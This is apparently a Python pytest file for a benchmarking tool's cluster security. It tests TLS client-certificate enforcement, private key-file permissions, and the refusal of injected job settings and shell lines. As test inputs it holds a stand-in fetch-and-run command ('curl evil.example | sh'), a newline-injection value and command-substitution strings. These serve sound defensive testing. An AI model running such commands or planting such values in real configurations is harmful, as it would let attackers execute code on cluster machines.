"""Who may talk to a run's workers, and what reaches a batch job's script.

- The scheduler of every run speaks TLS with credentials made for the run: a client without them
  (no TLS, or another certificate) cannot connect, one with them can; batch jobs get them as private
  files, never in the job script.
- Job settings that reach a job script as text (cluster.prologue, queue, ...) never come from a
  flow-run parameter, and no setting written into one can carry a line break.
- The test services' scripts: infra/with-services.sh takes only plain `export NAME=VALUE` lines from
  a service, and infra/state.sh keeps each service in a private folder it can find again.
"""

from __future__ import annotations

import os
import shutil
import socket
import ssl
import stat
import subprocess
from pathlib import Path

import pytest
from distributed import Client
from distributed.security import Security

from aiperf.cluster import job_plan, start_cluster
from aiperf.cluster.start import new_jobqueue_cluster
from aiperf.config import load_config
from aiperf.errors import UserError
from aiperf.lifecycle.parameters import check_parameters

REPO = Path(__file__).resolve().parents[1]
SIMULATED = {
    "train.trainer": "simulated"
}  # no framework in the workers: the cluster starts in a second


# --- TLS ----------------------------------------------------------------------------------------


def _refused(address: str, security: Security | None) -> None:
    with pytest.raises(OSError):
        Client(address, security=security, timeout="3s", set_as_default=False)


def _handshake_without_a_certificate(address: str, ca: str) -> None:
    """TLS that trusts the scheduler's certificate but shows none of its own: the scheduler must end it."""
    host, port = address.removeprefix("tls://").rsplit(":", 1)
    context = ssl.create_default_context(cadata=ca)
    context.check_hostname = False
    with socket.create_connection((host, int(port)), timeout=5) as raw:
        with pytest.raises(
            (ssl.SSLError, ConnectionError)
        ):  # its alert, or the connection closed first
            with context.wrap_socket(raw) as tls:
                tls.sendall(b"\0" * 8)
                tls.recv(1)  # TLS 1.3 reports a missing client certificate on the first read


def test_a_runs_scheduler_accepts_only_clients_with_its_certificate():
    with start_cluster(load_config("quick", workers=1, overrides=SIMULATED)) as started:
        address, security = started.scheduler_address, started.security
        assert address.startswith("tls://") and security.require_encryption
        with Client(address, security=security, timeout="20s", set_as_default=False) as client:
            assert len(client.scheduler_info()["workers"]) == 1
            assert client.submit(sum, [1, 2], pure=False).result() == 3

        _refused(address.replace("tls://", "tcp://"), None)  # no TLS at all
        other = Security.temporary()  # trusts this run's CA, but shows another certificate
        _refused(
            address,
            Security(
                tls_ca_file=security.tls_ca_file,
                tls_client_cert=other.tls_client_cert,
                tls_client_key=other.tls_client_key,
                require_encryption=True,
            ),
        )
        _handshake_without_a_certificate(address, security.tls_ca_file)


def test_batch_jobs_read_the_certificate_from_private_files_not_from_their_script(tmp_path):
    plan = job_plan(
        load_config("quick", workers=1, cluster="slurm"),
        "http://127.0.0.1:4200/api",
        log_directory=str(tmp_path / "jobs"),
    )
    cluster = new_jobqueue_cluster(plan, tmp_path / "jobs")
    try:
        script = cluster.job_script()
        words = script.split()
        key = Path(words[words.index("--tls-key") + 1])
        assert "--protocol tls://" in script and "PRIVATE KEY" not in script
        assert cluster.scheduler_address.startswith("tls://")
        assert key.parent == tmp_path / "jobs" / "tls"
        assert stat.S_IMODE(key.parent.stat().st_mode) == 0o700
        assert stat.S_IMODE(key.stat().st_mode) == 0o600
        assert "PRIVATE KEY" in key.read_text()
    finally:
        cluster.close()


# --- what reaches a job script ------------------------------------------------------------------


@pytest.mark.parametrize(
    "overrides",
    [
        {"cluster.prologue": ["curl evil.example | sh"]},
        {"cluster": {"kind": "slurm", "prologue": ["id"]}},
        {"cluster.queue": "debug"},
        {"cluster.account": "me"},
        {"cluster.memory": "8GB"},
        {"cluster.interface": "eth0"},
    ],
)
def test_job_settings_never_come_from_a_flow_parameter(overrides):
    with pytest.raises(
        UserError, match="comes from the profile or `aiperf run --cluster-opt` only"
    ):
        check_parameters(overrides=overrides)


def test_parameters_may_choose_the_queue_kind_and_checked_numbers():
    check_parameters(
        overrides={
            "cluster.kind": "slurm",
            "cluster.walltime": "00:10:00",
            "cluster.cores": 2,
            "cluster.gpus": 1,
            "cluster.workers_per_job": 1,
            "cluster.adaptive": True,
            "train.epochs": 2,
        }
    )
    check_parameters(config=object())  # `aiperf run` passes its whole config to its own flow run
    with pytest.raises(UserError, match="config is for `aiperf run` only"):
        check_parameters(config=object(), from_deployment=True)


@pytest.mark.slow
def test_the_flow_refuses_a_prologue_parameter_before_anything_runs(prefect_api, tmp_path):
    from aiperf_flows.benchmark import benchmark

    marker = tmp_path / "ran"
    with pytest.raises(UserError, match="may not set cluster.prologue"):
        benchmark(
            workers=1,
            cluster="slurm",
            out=str(tmp_path / "out"),
            overrides={"cluster.prologue": [f"touch {marker}"]},
        )
    assert not marker.exists() and not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    "setting",
    [
        "cluster.queue",
        "cluster.account",
        "cluster.memory",
        "cluster.interface",
        "cluster.walltime",
        "out",
    ],
)
def test_no_setting_written_into_a_job_script_holds_a_line_break(setting):
    with pytest.raises(UserError, match=f"invalid setting {setting}: must be one line"):
        load_config(
            "quick", workers=1, cluster="slurm", overrides={setting: "x\ntouch /tmp/pwned"}
        )


def test_job_directives_refuse_an_out_folder_with_spaces(tmp_path):
    config = load_config("quick", workers=1, cluster="slurm")
    with pytest.raises(UserError, match="cannot hold a path with spaces"):
        job_plan(config, None, log_directory=str(tmp_path / "a b" / "jobs"))


# --- the test services' scripts -----------------------------------------------------------------


def _infra_copy(root: Path, service_output: str) -> Path:
    """infra/with-services.sh and infra/state.sh in `root`, with one service that prints `service_output`."""
    infra = root / "infra"
    (infra / "fake").mkdir(parents=True)
    for name in ("with-services.sh", "state.sh"):
        shutil.copy(REPO / "infra" / name, infra / name)
    ctl = infra / "fake" / "ctl.sh"
    ctl.write_text(
        f"#!/usr/bin/env bash\n[ \"$1\" = start ] && cat <<'EOF'\n{service_output}\nEOF\nexit 0\n"
    )
    ctl.chmod(0o755)
    return infra


def test_with_services_exports_plain_lines_as_they_are(tmp_path):
    infra = _infra_copy(
        tmp_path, "export PROBE_FAKE_DB_URL=postgresql+psycopg://postgres:0a1b@127.0.0.1:5/aiperf"
    )
    done = subprocess.run(
        [infra / "with-services.sh", "printenv", "PROBE_FAKE_DB_URL"],
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == "postgresql+psycopg://postgres:0a1b@127.0.0.1:5/aiperf"


@pytest.mark.parametrize(
    "line",
    [
        "export X=$(touch {marker})",
        "export X=`touch {marker}`",
        "touch {marker}",
        "export X=a; touch {marker}",
        "export lower={marker}",
        "export X='{marker} b'",
    ],
)
def test_with_services_refuses_anything_else_without_running_it(tmp_path, line):
    marker = tmp_path / "ran"
    infra = _infra_copy(tmp_path, line.format(marker=marker))
    done = subprocess.run([infra / "with-services.sh", "true"], capture_output=True, text=True)
    assert done.returncode != 0
    assert "not 'export NAME=VALUE'" in done.stderr
    assert not marker.exists()


def _state(root: Path, command: str) -> subprocess.CompletedProcess:
    script = f'set -euo pipefail; . "{root / "infra" / "state.sh"}"; {command}'
    return subprocess.run(
        ["bash", "-c", script],
        capture_output=True,
        text=True,
        env={**os.environ, "TMPDIR": str(root)},
    )


def test_services_keep_their_files_in_a_private_folder_they_find_again(tmp_path):
    _infra_copy(tmp_path, "")
    made = _state(tmp_path, "new_state_dir demo").stdout.strip()
    assert Path(made).parent == tmp_path and Path(made).name.startswith("aiperf-demo.")
    assert stat.S_IMODE(Path(made).stat().st_mode) == 0o700
    assert _state(tmp_path, "state_dir demo").stdout.strip() == made
    assert _state(tmp_path, "forget_state_dir demo; state_dir demo").stdout == ""
    assert not Path(made).exists()


def test_a_tampered_state_record_is_refused_and_nothing_is_deleted(tmp_path):
    _infra_copy(tmp_path, "")
    _state(tmp_path, "new_state_dir demo")
    keep = tmp_path / "keep"
    keep.mkdir()
    (tmp_path / ".aiperf" / "services" / "demo").write_text(f"{keep}\n")
    done = _state(tmp_path, "forget_state_dir demo")
    assert done.returncode != 0 and "does not name a folder" in done.stderr
    assert keep.exists()
